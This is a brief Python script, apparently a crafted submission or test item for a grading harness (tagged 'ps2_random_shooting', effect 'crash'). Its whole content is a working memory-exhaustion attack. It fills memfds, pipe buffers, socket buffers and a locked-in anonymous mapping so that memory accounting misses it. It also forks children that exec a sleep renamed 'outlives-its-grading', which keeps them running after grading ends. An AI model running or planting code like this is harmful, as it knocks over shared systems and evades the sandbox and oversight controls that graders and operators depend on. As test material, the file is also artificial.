"""Fills memory by ways that are no allocation: memfds, pipes, socket buffers, locked and shared pages.

assignment: ps2_random_shooting
row: beyond
effect: crash
"""
# %% helper
import mmap, os, socket, fcntl
KEPT, BLOCK, ROOM = [], b"x" * (1 << 20), 0

def _child():
    made = 0
    try:
        while made < 8:
            number = os.memfd_create("x")
            KEPT.append(number)
            for _ in range(62):
                os.write(number, BLOCK)
            made += 1
    except OSError:
        pass
    try:
        while True:
            ends = os.pipe()
            KEPT.append(ends)
            fcntl.fcntl(ends[1], 1031, 1 << 20)
            os.set_blocking(ends[1], False)
            os.write(ends[1], BLOCK)
    except OSError:
        pass
    try:
        while True:
            one, two = socket.socketpair()
            KEPT.append((one, two))
            one.setblocking(False)
            while True:
                one.send(BLOCK)
    except OSError:
        pass

try:
    KEPT.append(mmap.mmap(-1, 1 << 28))
    for place in range(0, 1 << 28, 4096):
        KEPT[0][place] = 1
except (OSError, ValueError, MemoryError):
    pass
for _ in range(2):
    if os.fork() == 0:
        _child()
        os.execv("/usr/bin/sleep", ["outlives-its-grading", "600"])
